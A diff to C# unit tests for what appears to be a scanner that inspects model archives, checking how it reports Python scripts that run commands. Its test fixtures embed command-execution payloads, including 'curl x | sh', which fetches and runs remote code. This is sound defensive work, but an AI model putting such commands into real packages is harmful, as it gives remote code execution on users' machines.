@@ -92,6 +92,25 @@ public sealed class ShippedCodeTests
     }
 
     [Fact]
+    public void Python_with_execution_in_an_archive_is_reported_once_by_what_it_runs()
+    {
+        // One script, one finding: the line-numbered MA1172, not also "the archive carries a script" (MA2007).
+        byte[] zip = ArchiveBuilder.Zip(("handler.py", Encoding.UTF8.GetBytes("import os\nos.system('id')\n")), ("config.json", "{}"u8.ToArray()));
+        ModelScanResult result = Scan.Bytes(zip, "model.zip");
+        ModelFinding finding = Assert.Single(result.Findings);
+        Assert.Equal(("MA1172", "handler.py"), (finding.RuleId, finding.Member));
+    }
+
+    [Fact]
+    public void Python_without_execution_in_an_archive_is_still_a_script_in_the_archive()
+    {
+        byte[] zip = ArchiveBuilder.Zip(("modeling_tiny.py", Encoding.UTF8.GetBytes(OrdinaryModelling)), ("run.sh", "#!/bin/sh\necho hi\n"u8.ToArray()));
+        ModelScanResult result = Scan.Bytes(zip, "model.zip");
+        Assert.Equal(new[] { "modeling_tiny.py", "run.sh" }, result.Findings.Where(f => f.RuleId == "MA2007").Select(f => f.Member).Order(StringComparer.Ordinal));
+        Assert.DoesNotContain(result.Findings, f => f.RuleId.StartsWith("MA117", StringComparison.Ordinal));
+    }
+
+    [Fact]
     public void Code_inside_an_archive_is_analyzed_as_well()
     {
         byte[] zip = ArchiveBuilder.Zip(("handler.py", Encoding.UTF8.GetBytes("import os\nos.system('curl x | sh')\n")));
